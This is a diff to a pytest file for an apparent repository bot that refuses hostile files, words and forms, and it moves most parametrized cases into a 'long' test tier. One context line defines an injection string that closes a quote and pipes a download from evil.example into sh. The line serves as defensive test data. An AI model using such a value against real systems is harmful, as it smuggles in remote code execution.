@@ -20,6 +20,14 @@ from recorded import changed, payload
 PULL, ISSUE, RUN = "pull_request.opened", "issues.opened", "workflow_run.completed"
 SHELL = '"; curl evil.example | sh #'
 
+
+def some_and_all(cases):
+    """Every fourth case; the others are for the long tier."""
+    return [
+        pytest.param(case, marks=() if at % 4 == 0 else pytest.mark.long) for at, case in enumerate(cases)
+    ]
+
+
 # --- Pull requests -------------------------------------------------------------------------------------
 
 
@@ -278,7 +286,7 @@ FILES = {
 """One proposal for each way that a file goes into a commit; tests/forges has every rule and name."""
 
 
-@pytest.mark.parametrize("case", FILES)
+@pytest.mark.parametrize("case", some_and_all(FILES))
 def test_a_hostile_file_is_refused_by_name(proposed, case):
     """From the commit, before anything of it is laid out; in the comment as in the check."""
     change, rule = FILES[case]
@@ -315,7 +323,7 @@ WORDS = {
 }
 
 
-@pytest.mark.parametrize("case", WORDS)
+@pytest.mark.parametrize("case", some_and_all(WORDS))
 def test_a_hostile_word_is_refused_by_name(proposed, case):
     change, rule = WORDS[case]
     proposed.commit(change)
@@ -682,7 +690,7 @@ BAD_FORMS = {
 }
 
 
-@pytest.mark.parametrize("case", BAD_FORMS)
+@pytest.mark.parametrize("case", some_and_all(BAD_FORMS))
 def test_a_hostile_form_is_answered_by_name_and_proposes_nothing(signing, case):
     body, label = BAD_FORMS[case]
     said = signing.answer(body)
